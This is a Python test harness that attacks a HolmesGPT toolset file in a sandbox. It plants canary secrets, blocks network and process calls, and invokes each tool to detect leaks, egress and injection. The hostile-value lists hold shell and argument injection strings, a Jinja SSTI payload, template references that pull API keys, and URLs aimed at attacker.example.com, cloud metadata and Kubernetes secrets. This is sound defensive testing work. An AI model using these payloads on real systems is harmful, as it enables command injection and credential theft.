#!/usr/bin/env python3
"""Attack a generated HolmesGPT toolset file with HolmesGPT's own code (holmesgpt==0.45.0).

Usage:
  attack.py FILE --trusted HOST[:PORT] [--trusted ...]
            [--allow-builtin NAME ...] [--allow-prereq COMMAND ...] [--forbid-host GLOB ...]
            [--strict-egress] [--forbid-enabled NAME ...] [--verbose] [--debug-tool TOOL]

FILE is loaded exactly as the HolmesGPT server loads CUSTOM_TOOLSET_LOCATION
(ToolsetManager with CUSTOM_TOOLSET_LOCATION=FILE, `_list_all_toolsets` with the server's
tags), with a unique CANARY value in every secret HolmesGPT holds (LLM keys, GRAFANA_API_KEY,
ELASTICSEARCH_PASSWORD, ... and every `{{ env.VAR }}` FILE references). Then, with all network
and every process execution intercepted:

  (a) every enabled toolset's prerequisites run through HolmesGPT's own
      `ToolsetManager.check_toolset_prerequisites` (one toolset at a time, for attribution);
  (b) every tool of every enabled toolset is invoked through `Tool.invoke` with a
      `ToolInvokeContext` (user_approved=True, as after a user approval), once with benign
      parameters and once per (parameter, hostile value): shell metacharacters, command
      substitution, quotes, newlines, jinja (`{{ env.OPENAI_API_KEY }}`, SSTI), curl globs,
      foreign URLs (cloud metadata, attacker host, userinfo tricks), path traversal. `type: http`
      tools get foreign URLs, userinfo tricks and a redirect to a foreign host.

Network: `requests` (HTTPAdapter.send) answers every request with a canned 200 `{}` (a 302 to a
foreign host for URLs containing `__attack_redirect__`) after recording method, URL, headers and
body; `http.client.HTTPConnection.send`, `socket.socket.connect/connect_ex`,
`socket.create_connection` and `socket.getaddrinfo` record the destination and refuse. Nothing
leaves the machine.

Processes: `subprocess.Popen` (so run/check_output/os.popen/asyncio) is redirected: the command
really runs, but in a fresh temp directory, as user nobody in a new network namespace when
possible (`unshare -n setpriv`), with PATH holding only stubs: `curl`, `wget`, `kubectl`, ... record
their argv and print `{}`; a few harmless utilities (touch, jq, grep, ...) record and then run the
real binary. `os.system`, `os.exec*`, `os.spawn*`, `os.posix_spawn*` are refused and recorded.

Findings (one line each, exit 1):
  LEAK       a canary in a request/connection (URL, header, body, Basic auth decoded) to a
             HOST:PORT not in --trusted; or in a command whose curl/wget destination is untrusted.
             LLM/platform keys (OPENAI_API_KEY, ANTHROPIC_API_KEY, AWS_SECRET_ACCESS_KEY,
             HOLMES_API_KEY, ...) are flagged whatever the destination.
  EGRESS     a request/connection (no canary) to a forbidden host: cloud metadata, loopback, the
             kube-apiserver, *.attacker.example.com, a host carrying a template, plus --forbid-host
             globs (every untrusted host with --strict-egress). Other untrusted destinations are
             printed as `note:` lines (a tenant backend reached without credentials).
  INJECTION  a hostile value made something run: the injected `touch PWNED_n` ran or created its
             file, an SSTI payload reached Popen, or the value was split across argv
             (argument injection).
  CURLGLOB   curl run on a URL with glob characters and no --globoff.
  EXPOSED    a canary in what the model reads (tool descriptions, instructions, tool output).
  BUILTIN    `bash`, or a HolmesGPT built-in not in the allow-list, enabled by FILE.
  PREREQ     a prerequisites command (declared or run) not on the allow-list (HolmesGPT's own
             built-ins' prerequisite commands are allowed automatically).
  NOTHING    no tool was invoked although enabled toolsets have tools (the harness did nothing).

Exit 0: prints a summary with counts (toolsets loaded/enabled, prerequisite checks, tools,
invocations, requests, commands). Exit 2: usage or FILE unreadable.
"""

import argparse
import base64
import binascii
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import traceback
from urllib.parse import quote, quote_plus, unquote, urlsplit

# ---------------------------------------------------------------------------------------------
# Secrets and canaries
# ---------------------------------------------------------------------------------------------

SECRET_VARS = [
    "GRAFANA_API_KEY",
    "ELASTICSEARCH_PASSWORD",
    "ELASTICSEARCH_API_KEY",
    "OPENSEARCH_PASSWORD",
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "AZURE_API_KEY",
    "GEMINI_API_KEY",
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "HOLMES_API_KEY",
    "ROBUSTA_AI_TOKEN",
    "PROMETHEUS_AUTH_HEADER",
    "DATADOG_API_KEY",
    "NEW_RELIC_API_KEY",
]
# Never legitimately sent anywhere by a toolset: flagged whatever the destination.
NEVER_SENT = {
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "AZURE_API_KEY",
    "GEMINI_API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "HOLMES_API_KEY",
    "ROBUSTA_AI_TOKEN",
}
ENV_REF = re.compile(r"{{\s*env\.([^}\s]*)\s*}}")

CANARIES = {}  # canary value -> var name


def make_canary(var):
    value = f"CANARY_{re.sub(r'[^A-Za-z0-9]', '_', var)}_{secrets.token_hex(8)}"
    CANARIES[value] = var
    return value


def canaries_in(text):
    if not text:
        return []
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    found = []
    for c, var in CANARIES.items():
        if c in text:
            found.append(var)
    return found


B64_TOKEN = re.compile(r"[A-Za-z0-9+/_-]{12,}={0,2}")


def expand_haystack(text):
    """The text plus URL-decoded and base64-decoded forms (Basic auth, tokens)."""
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    parts = [text, unquote(text), unquote(text.replace("+", " "))]
    for tok in B64_TOKEN.findall(text):
        for dec in (base64.b64decode, base64.urlsafe_b64decode):
            try:
                padded = tok + "=" * (-len(tok) % 4)
                parts.append(dec(padded).decode("latin-1"))
            except (binascii.Error, ValueError):
                pass
    return "\n".join(parts)


# ---------------------------------------------------------------------------------------------
# State shared by the interceptors
# ---------------------------------------------------------------------------------------------


class State:
    def __init__(self):
        self.lock = threading.Lock()
        self.phase = "import"  # import | load | prereq | invoke
        self.ctx = {}  # toolset, tool, param, value_id
        self.requests = []  # dicts: phase, ctx, method, url, host, port, text
        self.connects = []  # dicts: phase, ctx, host, port, via
        self.commands = []  # dicts: phase, ctx, cmd, argv_log (list of argv lists), sandbox
        self.refused_exec = []  # dicts: phase, ctx, what
        self.findings = []  # (kind, line)
        self.seen = set()

    def context(self):
        return dict(self.ctx)

    def finding(self, kind, **kw):
        parts = [kind]
        for key in ("toolset", "tool", "param", "value", "destination", "detail"):
            if kw.get(key) not in (None, ""):
                v = kw[key]
                if key == "value":
                    v = json.dumps(v)[:80]
                parts.append(f"{key}={v}")
        line = " ".join(parts)
        # one line per (kind, toolset, tool, parameter, value, destination)
        # (LEAK/EGRESS: one line per toolset, tool, destination and secret; the first
        # parameter seen is named, "(benign)" meaning the configuration alone does it)
        if kind in ("LEAK", "EGRESS", "EXPOSED"):
            key = (kind, kw.get("toolset"), kw.get("tool"), kw.get("destination"), kw.get("secret"))
        else:
            key = (kind, kw.get("toolset"), kw.get("tool"), kw.get("param"), str(kw.get("value")), kw.get("destination"),
                   kw.get("detail") if kind in ("BUILTIN", "PREREQ", "EXPOSED", "EXEC", "NOTHING") else None)
        with self.lock:
            if key not in self.seen:
                self.seen.add(key)
                self.findings.append((kind, line))


STATE = State()
ADDR_MAP = {}  # fake ip -> hostname (from our getaddrinfo)
_next_fake = [1]


def fake_ip_for(host):
    for ip, h in ADDR_MAP.items():
        if h == host:
            return ip
    n = _next_fake[0]
    _next_fake[0] += 1
    ip = f"198.18.{n // 250}.{n % 250 + 1}"
    ADDR_MAP[ip] = host
    return ip


def norm_host(h):
    return (h or "").strip().rstrip(".").lower().strip("[]")


def default_port(scheme):
    return {"http": 80, "https": 443}.get((scheme or "").lower())


def url_dest(url):
    try:
        s = urlsplit(url)
        port = s.port or default_port(s.scheme)
        return norm_host(s.hostname), port
    except ValueError:
        return None, None


# ---------------------------------------------------------------------------------------------
# Network interception
# ---------------------------------------------------------------------------------------------


def install_network_guards():
    real_getaddrinfo = socket.getaddrinfo

    def fake_getaddrinfo(host, port, *a, **kw):
        h = host.decode() if isinstance(host, bytes) else host
        if h is None:
            return real_getaddrinfo(host, port, *a, **kw)
        try:
            socket.inet_pton(socket.AF_INET, h)
            ip = h
        except (OSError, TypeError):
            ip = fake_ip_for(norm_host(h))
        p = int(port) if port not in (None, "") and str(port).isdigit() else 0
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (ip, p))]

    socket.getaddrinfo = fake_getaddrinfo

    def record_connect(addr, via):
        if isinstance(addr, tuple) and len(addr) >= 2:
            host, port = addr[0], addr[1]
            host = ADDR_MAP.get(host, host)
        else:
            host, port = str(addr), None
        STATE.connects.append(
            {"phase": STATE.phase, "ctx": STATE.context(), "host": norm_host(str(host)), "port": port, "via": via}
        )

    real_connect = socket.socket.connect
    real_connect_ex = socket.socket.connect_ex

    def guarded_connect(self, addr):
        if self.family == getattr(socket, "AF_UNIX", None):
            return real_connect(self, addr)
        record_connect(addr, "socket.connect")
        raise ConnectionRefusedError(111, "attack.py: network is intercepted")

    def guarded_connect_ex(self, addr):
        if self.family == getattr(socket, "AF_UNIX", None):
            return real_connect_ex(self, addr)
        record_connect(addr, "socket.connect_ex")
        return 111

    socket.socket.connect = guarded_connect
    socket.socket.connect_ex = guarded_connect_ex

    def guarded_create_connection(address, *a, **kw):
        record_connect(address, "socket.create_connection")
        raise ConnectionRefusedError(111, "attack.py: network is intercepted")

    socket.create_connection = guarded_create_connection

    import http.client

    def guarded_http_send(self, data):
        text = data if isinstance(data, (bytes, str)) else b""
        record_request(
            "?", f"{'https' if isinstance(self, http.client.HTTPSConnection) else 'http'}://{self.host}:{self.port}/",
            norm_host(self.host), self.port, text, "http.client",
        )
        raise ConnectionRefusedError(111, "attack.py: network is intercepted")

    http.client.HTTPConnection.send = guarded_http_send

    import requests
    import requests.adapters
    from requests.models import Response
    from requests.structures import CaseInsensitiveDict

    def fake_adapter_send(self, request, *a, **kw):
        host, port = url_dest(request.url)
        body = request.body or b""
        if isinstance(body, str):
            body = body.encode("utf-8", "replace")
        headers = "\n".join(f"{k}: {v}" for k, v in (request.headers or {}).items())
        record_request(request.method, request.url, host, port, f"{request.url}\n{headers}\n".encode() + body, "requests")
        resp = Response()
        resp.request = request
        resp.url = request.url
        resp.encoding = "utf-8"
        resp.connection = self
        if "__attack_redirect__" in (request.url or ""):
            resp.status_code = 302
            resp.headers = CaseInsensitiveDict({"Location": "http://attacker.example.com/redirected", "Content-Length": "0"})
            resp._content = b""
        else:
            resp.status_code = 200
            resp.headers = CaseInsensitiveDict({"Content-Type": "application/json"})
            resp._content = b"{}"
        resp.reason = "OK"
        return resp

    requests.adapters.HTTPAdapter.send = fake_adapter_send

    try:  # httpx (MCP clients): record and refuse
        import httpx

        def guarded_httpx(self, request):
            host, port = url_dest(str(request.url))
            text = f"{request.url}\n" + "\n".join(f"{k}: {v}" for k, v in request.headers.items())
            record_request(request.method, str(request.url), host, port, text.encode(), "httpx")
            raise httpx.ConnectError("attack.py: network is intercepted", request=request)

        async def guarded_httpx_async(self, request):
            return guarded_httpx(self, request)

        httpx.HTTPTransport.handle_request = guarded_httpx
        httpx.AsyncHTTPTransport.handle_async_request = guarded_httpx_async
    except ImportError:
        pass


def record_request(method, url, host, port, raw, via):
    STATE.requests.append(
        {
            "phase": STATE.phase,
            "ctx": STATE.context(),
            "method": method,
            "url": url,
            "host": host,
            "port": port,
            "text": raw.decode("latin-1") if isinstance(raw, bytes) else raw,
            "via": via,
        }
    )


# ---------------------------------------------------------------------------------------------
# Process interception
# ---------------------------------------------------------------------------------------------

RECORDED_STUBS = ["curl", "wget", "kubectl", "helm", "nc", "ncat", "socat", "ssh", "scp", "python", "python3",
                  "perl", "ruby", "node", "aws", "gcloud", "az", "argocd", "docker", "telnet", "openssl", "dig",
                  "nslookup", "rm", "mv", "cp", "dd", "chown", "sudo", "su"]
PASSTHROUGH = ["touch", "cat", "head", "tail", "grep", "egrep", "sed", "awk", "jq", "tr", "cut", "sort", "uniq",
               "wc", "base64", "date", "chmod", "id", "true", "false", "echo", "printf", "xargs", "env", "sh",
               "bash", "dash", "mkdir", "ls", "basename", "dirname", "test", "[", "expr", "seq", "tee", "sleep",
               "column", "yes", "timeout"]

STUB_TEMPLATE = """#!/bin/sh
{{ /usr/bin/printf 'ARGV\\0%s\\0' "$(/usr/bin/basename "$0")"; for a in "$@"; do /usr/bin/printf '%s\\0' "$a"; done; /usr/bin/printf 'END\\0'; }} >> "$ATTACK_EXECLOG" 2>/dev/null
{tail}
"""


class Sandbox:
    def __init__(self, root):
        self.root = root
        self.stubs = os.path.join(root, "stubs")
        os.makedirs(self.stubs)
        os.chmod(root, 0o755)
        for name in RECORDED_STUBS:
            self._write(name, "/usr/bin/printf '{}\\n'\nexit 0")
        for name in PASSTHROUGH:
            real = shutil.which(name, path="/usr/bin:/bin:/usr/sbin:/sbin")
            if real and name not in ("[",):
                self._write(name, f'exec {real} "$@"')
        self.isolate = []
        unshare, setpriv = shutil.which("unshare"), shutil.which("setpriv")
        if os.geteuid() == 0 and unshare and setpriv:
            iso = [unshare, "-n", setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"]
            probe = subprocess.run(iso + ["/bin/true"], capture_output=True)
            if probe.returncode == 0:
                self.isolate = iso
        self.counter = 0

    def _write(self, name, tail):
        p = os.path.join(self.stubs, name)
        with open(p, "w") as f:
            f.write(STUB_TEMPLATE.format(tail=tail))
        os.chmod(p, 0o755)

    def new_cwd(self):
        self.counter += 1
        d = os.path.join(self.root, f"run{self.counter}")
        os.makedirs(d)
        os.chmod(d, 0o777)
        log = os.path.join(d, ".execlog")
        open(log, "w").close()
        os.chmod(log, 0o666)
        return d, log


SANDBOX = None
REAL_POPEN = subprocess.Popen


def parse_execlog(path):
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        return []
    out, cur = [], None
    for field in data.split(b"\0"):
        s = field.decode("utf-8", "replace")
        if cur is None:
            if s == "ARGV":
                cur = []
        elif s == "END":
            out.append(cur)
            cur = None
        else:
            cur.append(s)
    return out


class InterceptedPopen(REAL_POPEN):
    def __init__(self, args, *a, **kw):
        shell = kw.get("shell", False)
        executable = kw.get("executable")
        if isinstance(args, (str, bytes)):
            cmd_text = args.decode() if isinstance(args, bytes) else args
            argv = [executable or "/bin/sh", "-c", cmd_text] if shell else [cmd_text]
        else:
            argv = [os.fspath(x) if not isinstance(x, bytes) else x.decode() for x in args]
            if shell:
                argv = [executable or "/bin/sh", "-c", " ".join(argv)]
            cmd_text = " ".join(argv)
        cwd, log = SANDBOX.new_cwd()
        # A script file HolmesGPT wrote (script: tools) must be readable by the sandbox user.
        tmp = re.escape(tempfile.gettempdir())
        for tok in re.findall(tmp + r"/tmp[\w]+\.sh", cmd_text):
            if os.path.isfile(tok) and SANDBOX.isolate:
                try:
                    os.chown(tok, 65534, 65534)
                    os.chmod(tok, 0o755)
                except OSError:
                    pass
        rec = {"phase": STATE.phase, "ctx": STATE.context(), "cmd": cmd_text, "cwd": cwd, "log": log}
        STATE.commands.append(rec)
        env = dict(kw.get("env") or os.environ)
        env["PATH"] = SANDBOX.stubs
        env["HOME"] = cwd
        env["ATTACK_EXECLOG"] = log
        kw["env"] = env
        kw["cwd"] = cwd
        kw["shell"] = False
        kw["executable"] = None
        if not kw.get("stdin"):
            kw["stdin"] = subprocess.DEVNULL
        super().__init__(SANDBOX.isolate + argv, *a, **kw)


def install_exec_guards():
    subprocess.Popen = InterceptedPopen

    def refuse(name):
        def f(*a, **kw):
            STATE.refused_exec.append({"phase": STATE.phase, "ctx": STATE.context(), "what": f"{name}{a!r}"[:300]})
            raise PermissionError(f"attack.py: {name} is intercepted")
        return f

    def fake_system(command):
        p = InterceptedPopen(command, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return p.wait(timeout=30) << 8

    os.system = fake_system
    for name in ("execv", "execve", "execvp", "execvpe", "execl", "execle", "execlp", "execlpe",
                 "spawnv", "spawnve", "spawnvp", "spawnvpe", "spawnl", "spawnle", "spawnlp", "spawnlpe",
                 "posix_spawn", "posix_spawnp"):
        if hasattr(os, name):
            setattr(os, name, refuse(f"os.{name}"))


# ---------------------------------------------------------------------------------------------
# Hostile values
# ---------------------------------------------------------------------------------------------


def hostile_values():
    """(id, value) pairs. Every shell payload touches its own PWNED_<n> marker."""
    vals = []

    def add(fmt):
        n = len(vals)
        marker = f"PWNED_{n}"
        vals.append((n, fmt.replace("@M@", marker), marker))

    add("frontend;touch @M@;")
    add("$(touch @M@)")
    add("`touch @M@`")
    add("frontend' ; touch @M@ ; '")
    add('frontend" ; touch @M@ ; "')
    add("frontend'$(touch @M@)'")
    add('frontend"$(touch @M@)"')
    add("frontend\ntouch @M@\n")
    add("frontend | touch @M@")
    add("frontend && touch @M@")
    add("--output @M@ http://attacker.example.com/@M@")
    add("' -o @M@ 'http://attacker.example.com/@M@")
    add("{{ cycler.__init__.__globals__.os.popen('touch @M@').read() }}")
    add("{{ env.OPENAI_API_KEY }}@M@")
    add("{% for c in [1] %}{{ env.GRAFANA_API_KEY }}{% endfor %}@M@")
    add("${OPENAI_API_KEY}@M@")
    add("http://attacker.example.com/@M@/[1-100000000]")
    add("@M@{a,b,c}[1-100000000]")
    add("http://169.254.169.254/latest/meta-data/iam/security-credentials/@M@")
    add("http://attacker.example.com/@M@")
    add("https://kubernetes.default.svc/api/v1/secrets?@M@")
    add("../../../../../../etc/passwd#@M@")
    add("frontend&url=http://attacker.example.com/@M@#")
    add("frontend%27%3Btouch%20@M@%3B%27")
    return vals


def hostile_urls_for_http(bases):
    """URLs for `type: http` tools: foreign hosts, userinfo/host-confusion tricks, a redirect."""
    out = [
        "http://169.254.169.254/latest/meta-data/",
        "http://attacker.example.com/",
        "https://attacker.example.com/api/v1/query",
        "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
        "https://kubernetes.default.svc.cluster.local:443/api/v1/secrets",
        "http://evil.team-a.svc.cluster.local:9200/",
        "http://grafana.team-a.svc.cluster.local:3000/api/search",
        "http://127.0.0.1:8080/",
        "http://[::1]:9090/",
        "http://{{ env.OPENAI_API_KEY }}.attacker.example.com/",
        "file:///etc/passwd",
        "gopher://attacker.example.com:70/",
    ]
    for b in bases:
        s = urlsplit(b)
        host = s.netloc
        out += [
            f"{s.scheme}://{host}@attacker.example.com/",
            f"{s.scheme}://attacker.example.com#@{host}/",
            f"{s.scheme}://{host}.attacker.example.com/",
            f"{s.scheme}://attacker.example.com\\@{host}/",
            f"{s.scheme}://{host}/../../../../etc/passwd",
            f"{s.scheme}://{host}/api/__attack_redirect__",
            f"{s.scheme}://{host}/__attack_redirect__",
            b,
        ]
    return out


# ---------------------------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------------------------

DEFAULT_ALLOWED_BUILTINS = [
    "kubernetes/core",
    "kubernetes/logs",
    "prometheus/metrics",
    "grafana/dashboards",
    "grafana/loki",
    "grafana/tempo",
    "elasticsearch/data",
    "elasticsearch/cluster",
    "victorialogs",
]


def parse_trusted(entries):
    out = set()
    for e in entries:
        e = e.strip()
        if "://" in e:
            h, p = url_dest(e)
            out.add((h, p))
            continue
        m = re.match(r"^\[?([^\]]+?)\]?(?::(\d+))?$", e)
        if not m:
            raise SystemExit(f"attack.py: bad --trusted {e!r}")
        out.add((norm_host(m.group(1)), int(m.group(2)) if m.group(2) else None))
    return out


DEFAULT_FORBIDDEN_HOSTS = ["169.254.*", "fd00:ec2::254", "metadata.google.internal", "metadata", "127.*", "localhost",
                           "::1", "0.0.0.0", "kubernetes", "kubernetes.default", "kubernetes.default.svc",
                           "kubernetes.default.svc.cluster.local", "attacker.example.com", "*.attacker.example.com",
                           "*canary_*", "*{{*", "*}}*"]
FORBIDDEN_HOSTS = []
STRICT_EGRESS = [False]
NOTES = []


def egress(kw, host):
    """An untrusted destination without a canary: a finding if forbidden (or --strict-egress), else a note."""
    import fnmatch

    h = norm_host(host)
    if STRICT_EGRESS[0] or any(fnmatch.fnmatch(h, pat) for pat in FORBIDDEN_HOSTS):
        STATE.finding("EGRESS", **kw)
    else:
        line = f"note: EGRESS (untrusted, no credential) toolset={kw.get('toolset')} tool={kw.get('tool')} destination={kw.get('destination')}"
        if line not in NOTES:
            NOTES.append(line)


def is_trusted(trusted, host, port):
    host = norm_host(host)
    for h, p in trusted:
        if h == host and (p is None or port is None or p == port):
            return True
    return False


def main(argv):
    ap = argparse.ArgumentParser(description="attack a generated HolmesGPT toolset file", add_help=True)
    ap.add_argument("file")
    ap.add_argument("--trusted", action="append", default=[], help="HOST[:PORT] allowed to receive credentials")
    ap.add_argument("--allow-builtin", action="append", default=[], help="extra HolmesGPT built-in the file may enable")
    ap.add_argument("--allow-prereq", action="append", default=[], help="prerequisites command allowed (exact)")
    ap.add_argument("--forbid-host", action="append", default=[],
                    help="host glob no request may reach even without credentials (EGRESS finding); "
                         "cloud metadata, loopback, the apiserver and *.attacker.example.com are always forbidden")
    ap.add_argument("--strict-egress", action="store_true",
                    help="every request to a host not in --trusted is a finding (default: a note unless forbidden)")
    ap.add_argument("--forbid-enabled", action="append", default=[],
                    help="toolset that must not end up enabled at all, even by HolmesGPT's defaults (e.g. bash)")
    ap.add_argument("--verbose", "-v", action="store_true")
    ap.add_argument("--debug-tool", action="append", default=[], help="print every result of this tool (stderr)")
    args = ap.parse_args(argv[1:])

    path = os.path.abspath(args.file)
    try:
        with open(path, encoding="utf-8") as f:
            text = f.read()
    except OSError as e:
        print(f"attack.py: cannot read {path}: {e}", file=sys.stderr)
        return 2
    trusted = parse_trusted(args.trusted)
    FORBIDDEN_HOSTS[:] = DEFAULT_FORBIDDEN_HOSTS + [norm_host(h) for h in args.forbid_host]
    STRICT_EGRESS[0] = args.strict_egress
    allowed_builtins = set(DEFAULT_ALLOWED_BUILTINS) | set(args.allow_builtin)
    allowed_prereqs = set(args.allow_prereq)

    # --- environment: canaries everywhere, before any holmes import --------------------------
    os.environ["LITELLM_LOCAL_MODEL_COST_MAP"] = "True"
    os.environ["CUSTOM_TOOLSET_LOCATION"] = path
    os.environ["HOLMES_TOOLSET_PREREQ_TIMEOUT_SECONDS"] = "60"
    os.environ.setdefault("HOLMES_TOOLSET_STATUS_LOCATION", "/dev/null")
    os.environ["DISABLE_PROMETHEUS_TOOLSET_DISCOVERY"] = "true"
    for var in SECRET_VARS:
        os.environ[var] = make_canary(var)
    for var in sorted(set(ENV_REF.findall(text))):
        if var not in os.environ or var in SECRET_VARS:
            os.environ[var] = make_canary(var) if var not in SECRET_VARS else os.environ[var]

    global SANDBOX
    workdir = tempfile.mkdtemp(prefix="holmes-attack-")
    SANDBOX = Sandbox(workdir)
    # HolmesGPT looks binaries up on its own PATH (shutil.which("kubectl")): it finds the stubs.
    os.environ["PATH"] = SANDBOX.stubs + os.pathsep + os.environ.get("PATH", "")
    install_network_guards()
    install_exec_guards()

    import logging

    logging.disable(logging.CRITICAL)

    import yaml  # type: ignore

    from holmes.core.llm import LLM
    from holmes.core.tools import (
        SERVER_TOOLSET_TAGS,
        ToolInvokeContext,
        ToolsetCommandPrerequisite,
        ToolsetStatusEnum,
    )
    from holmes.core.toolset_manager import ToolsetManager
    from holmes.plugins.toolsets import load_builtin_toolsets

    raw = yaml.safe_load(text)
    file_entries = (raw or {}).get("toolsets") or {} if isinstance(raw, dict) else {}
    if not isinstance(file_entries, dict):
        file_entries = {}
    file_mcp = (raw or {}).get("mcp_servers") or {} if isinstance(raw, dict) else {}

    # --- baseline: what HolmesGPT itself enables and which prerequisite commands it ships ----
    STATE.phase = "load"
    builtins = {t.name: t for t in load_builtin_toolsets()}
    builtin_prereqs = set()
    for t in builtins.values():
        for p in t.prerequisites:
            if isinstance(p, ToolsetCommandPrerequisite):
                builtin_prereqs.add(p.command)
    allowed_prereqs |= builtin_prereqs
    baseline_enabled = {n for n, t in builtins.items() if t.enabled}

    # --- load exactly as the server does -------------------------------------------------------
    try:
        manager = ToolsetManager()  # picks up CUSTOM_TOOLSET_LOCATION
        toolsets = manager._list_all_toolsets(check_prerequisites=False, toolset_tags=SERVER_TOOLSET_TAGS)
    except Exception as e:
        print(f"attack.py: HolmesGPT cannot load {path}: {e}", file=sys.stderr)
        return 2
    # Judge what FILE configures: toolsets it names (built-in overrides, custom, MCP). HolmesGPT's
    # own defaults that FILE does not mention (bash, internet, ...) are listed, not exercised.
    named = set(file_entries) | set(file_mcp)
    enabled_all = [t for t in toolsets if t.enabled]
    enabled = [t for t in enabled_all if t.name in named]
    defaults_not_exercised = sorted(t.name for t in enabled_all if t.name not in named)

    # BUILTIN: bash or built-ins FILE enables that the generator should not
    for t in enabled:
        entry = file_entries.get(t.name)
        from_file = isinstance(entry, dict) or t.name in file_mcp
        if t.name == "bash" or t.name.startswith("bash/"):
            STATE.finding("BUILTIN", toolset=t.name, detail="HolmesGPT's bash toolset is enabled")
        elif t.name in builtins and from_file and t.name not in allowed_builtins:
            STATE.finding("BUILTIN", toolset=t.name, detail="built-in not on the allow-list enabled by the file")

    for t in enabled_all:
        if t.name in args.forbid_enabled and t.name not in named:
            STATE.finding("BUILTIN", toolset=t.name, detail="enabled by HolmesGPT's defaults and the file does not turn it off")

    # PREREQ (declared): every command prerequisite of an enabled toolset
    for t in enabled:
        for p in t.prerequisites:
            if isinstance(p, ToolsetCommandPrerequisite) and p.command not in allowed_prereqs:
                STATE.finding("PREREQ", toolset=t.name, detail=f"declared prerequisites command not allowed: {p.command!r}")

    # --- (a) prerequisites, one toolset at a time through HolmesGPT's own checker ----------
    n_prereq = 0
    for t in enabled:
        STATE.phase = "prereq"
        STATE.ctx = {"toolset": t.name, "tool": "(prerequisites)"}
        n_cmds_before = len(STATE.commands)
        try:
            ToolsetManager.check_toolset_prerequisites([t], silent=True)
        except Exception as e:
            if args.verbose:
                print(f"prereq {t.name} raised {e}", file=sys.stderr)
        n_prereq += 1
        for rec in STATE.commands[n_cmds_before:]:
            cmd = rec["cmd"]
            if not any(a in cmd for a in allowed_prereqs):
                STATE.finding("PREREQ", toolset=t.name, detail=f"prerequisites ran a command not allowed: {cmd[:200]!r}")
        if args.verbose:
            print(f"prereq {t.name}: {t.status.value} {t.error or ''}"[:300], file=sys.stderr)

    # EXPOSED: canaries in what the model reads
    for t in enabled:
        texts = [t.description or "", str(getattr(t, "llm_instructions", "") or "")]
        for tool in t.tools:
            try:
                texts.append(json.dumps(tool.get_openai_format()))
            except Exception:
                texts.append(f"{tool.name} {tool.description}")
        for var in canaries_in("\n".join(texts)):
            STATE.finding("EXPOSED", toolset=t.name, secret=var, detail=f"{var} canary in a description/instructions the model reads")

    # --- (b) invoke every tool -----------------------------------------------------------------
    class FakeLLM(LLM):
        def __init__(self):
            self.model = "attack-fake"

        def get_context_window_size(self):
            return 128000

        def get_maximum_output_token(self):
            return 4096

        def count_tokens(self, messages, tools=None):
            raise NotImplementedError

        def completion(self, *a, **kw):
            raise RuntimeError("attack.py: no LLM")

    llm = FakeLLM()
    hostile = hostile_values()
    n_tools = n_invocations = 0
    tools_total = sum(len(t.tools) for t in enabled)
    invoke_errors = []
    for t in enabled:
        forced = t.status != ToolsetStatusEnum.ENABLED
        http_bases = []
        cfg = getattr(t, "config", None)
        try:
            cfg_d = cfg.model_dump() if hasattr(cfg, "model_dump") else (cfg or {})
            for ep in (cfg_d or {}).get("endpoints", []) or []:
                paths = ep.get("paths") or ["*"]
                ep_path = "/" + paths[0].lstrip("/").replace("*", "attack")
                for h in ep.get("hosts", []) or []:
                    u = h if "://" in h else f"http://{h}"
                    u = u.replace("://*.", "://attack-probe.").replace(":*", ":80").rstrip("/")
                    http_bases.append(u + ep_path)
        except Exception:
            pass
        for tool in list(t.tools):
            n_tools += 1
            params_spec = getattr(tool, "parameters", {}) or {}
            is_http = "url" in params_spec and t.type is not None and str(getattr(t.type, "value", t.type)) == "http"

            def benign(name, spec):
                if spec.enum:
                    return spec.enum[0]
                ty = spec.primary_type
                if ty in ("integer", "number"):
                    return 1
                if ty == "boolean":
                    return False
                if ty == "object":
                    return {}
                if ty == "array":
                    return []
                if name == "method":
                    return "GET"
                if name == "url" and http_bases:
                    return http_bases[0]
                return "frontend"

            base = {n: benign(n, s) for n, s in params_spec.items() if s.required}
            if is_http:
                base["method"] = "GET"
            instance_names = []
            if "instance" in params_spec:
                try:
                    from holmes.plugins.toolsets.multi_instance import _parse_instances

                    instance_names = [n for n, _ in _parse_instances(cfg_d if isinstance(cfg_d, dict) else {})]
                except Exception:
                    instance_names = []
                if instance_names:
                    base["instance"] = instance_names[0]
            calls = [("(benign)", None, None, dict(base))]
            for iname in instance_names[1:]:
                calls.append(("(benign)", None, None, dict(base, instance=iname)))
            for pname, spec in params_spec.items():
                if spec.primary_type not in ("string",) and not isinstance(spec.type, list):
                    values = [(v[0], v[1], v[2]) for v in hostile[:3]]
                else:
                    values = hostile
                for vid, value, marker in values:
                    p = dict(base)
                    p[pname] = value
                    calls.append((pname, vid, marker, p))
                if is_http and pname == "url":
                    for i, u in enumerate(hostile_urls_for_http(http_bases)):
                        p = dict(base)
                        p["url"] = u
                        calls.append(("url", f"url{i}", None, p))
                if is_http and pname == "headers":
                    for hv in ['{"Host": "attacker.example.com"}', '{"Authorization": "{{ env.OPENAI_API_KEY }}"}']:
                        p = dict(base)
                        p["headers"] = hv
                        calls.append(("headers", "hdr", None, p))
            for pname, vid, marker, params in calls:
                STATE.phase = "invoke"
                STATE.ctx = {"toolset": t.name, "tool": tool.name, "param": pname, "value": params.get(pname) if pname != "(benign)" else None,
                             "marker": marker, "forced": forced}
                n_cmds_before = len(STATE.commands)
                ctx = ToolInvokeContext(
                    llm=llm, max_token_count=20000, tool_call_id=f"attack-{n_invocations}",
                    tool_name=tool.name, user_approved=True,
                )
                try:
                    result = tool.invoke(dict(params), context=ctx)
                    out = " ".join(str(x) for x in (result.data, result.error, result.invocation, result.url) if x)
                    if tool.name in args.debug_tool:
                        print(f"debug {tool.name} {params!r} -> {result.status.value} {out[:300]!r}", file=sys.stderr)
                except Exception as e:
                    out = f"{type(e).__name__}: {e}"
